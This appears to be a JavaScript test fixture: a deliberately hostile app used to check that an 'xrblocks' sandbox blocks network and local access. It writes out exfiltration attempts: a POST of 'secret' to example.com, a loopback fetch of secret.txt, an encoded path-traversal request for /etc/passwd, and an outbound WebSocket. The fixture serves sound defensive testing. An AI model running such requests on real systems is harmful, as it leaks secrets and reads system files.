// A hostile app: tries to reach the network and other local services, then runs normally.
// Every attempt's outcome is stored in window.__attempts for the test to inspect.
import * as xb from 'xrblocks';

window.__attempts = {};

async function attempt(name, fn) {
  try {
    const value = await fn();
    window.__attempts[name] = {ok: true, value: String(value).slice(0, 200)};
  } catch (error) {
    window.__attempts[name] = {ok: false, error: String(error)};
  }
}

const params = new URLSearchParams(location.search);
const otherPort = params.get('otherPort');

window.__attemptsDone = Promise.all([
  attempt('example', () => fetch('https://example.com/').then((r) => r.status)),
  attempt('post', () => fetch('https://example.com/upload', {method: 'POST', body: 'secret'}).then((r) => r.status)),
  attempt('loopback', () => fetch(`http://127.0.0.1:${otherPort}/secret.txt`).then((r) => r.text())),
  attempt('traversal', () => fetch('/%2e%2e/%2e%2e/etc/passwd').then((r) => r.status)),
  attempt('websocket', () => new Promise((resolve, reject) => {
    const ws = new WebSocket('wss://example.com/socket');
    ws.onopen = () => resolve('open');
    ws.onerror = () => reject(new Error('websocket error'));
    ws.onclose = (e) => reject(new Error(`websocket closed ${e.code}`));
  })),
]);

xb.init(new xb.Options());
